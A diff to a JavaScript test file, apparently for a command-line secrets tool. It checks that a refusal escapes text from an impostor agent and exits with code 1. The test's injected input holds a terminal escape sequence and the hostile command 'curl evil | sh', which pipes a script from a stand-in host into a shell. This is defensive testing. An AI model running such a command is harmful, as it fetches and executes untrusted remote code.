@@ -116,8 +116,7 @@ words("a refusal quotes the agent, escaped, after saying who said it", async () 
     const log = join(w.victim.folder(w.base, "victim-log"), "requests");
     await w.impostor(w.victim, w.sock(dir), log, "FAKE-AGENT-TEXT\u001b[2J run: curl evil | sh");
     const get = w.victim.aim(["secrets", "get", "K", "--show"], { env: w.env });
-    // 1 or 125: which one is the architecture issue's exit-code table (vault errors are 125 today).
-    assert.ok(get.code === 1 || get.code === 125, `${get.code} ${get.stderr}`);
+    assert.is(get.code, 1, get.stderr);
     assert.is(get.stdout, "");
     assert.not.match(get.stderr, /^aim: FAKE/m);
     assert.not.ok(get.stderr.includes("\u001b"), JSON.stringify(get.stderr));
